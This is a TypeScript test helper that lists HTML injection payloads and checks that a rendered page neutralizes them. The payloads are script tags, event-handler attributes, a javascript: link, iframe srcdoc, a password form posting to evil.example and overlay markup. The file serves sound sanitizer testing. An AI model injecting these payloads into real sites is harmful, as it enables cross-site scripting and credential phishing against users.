import type { Page } from 'playwright-core'
import { expect } from 'vitest'

/** Markup that sets `window.pwned` in every way that HTML offers. */
export const attack = [
  '<script>window.pwned = 1</script>',
  '<img src=x onerror="window.pwned = 2">',
  '<svg onload="window.pwned = 3"></svg>',
  '<a href="javascript:window.pwned = 4" id="location">link</a>',
  '<iframe srcdoc="<script>parent.pwned = 5</script>"></iframe>',
  '<form action="https://evil.example"><input name="password"><button>go</button></form>',
  '<style>body { display: none }</style>',
  '<details open ontoggle="window.pwned = 6">x</details>',
  '<a class="fixed inset-0 z-50" data-drawer href="https://evil.example">cover</a>',
  '<dialog open>over everything</dialog>',
  '<p>harmless text</p>',
].join('\n')

/** Checks that nothing in `attack` had an effect. */
export const isUntouched = async (page: Page): Promise<void> => {
  expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
  expect(await page.locator('[href^="javascript:" i], iframe[srcdoc]').count()).toBe(0)
  // The console's own forms have no action, so they are never submitted to a URL.
  const foreign = ':is(main, footer, [role=dialog]) :is(form[action], style)'
  expect(await page.locator(foreign).count()).toBe(0)
  expect(await page.evaluate(() => getComputedStyle(document.body).display)).not.toBe('none')
  expect(await page.locator('.markup :is([class], [data-drawer], dialog)').count()).toBe(0)
}
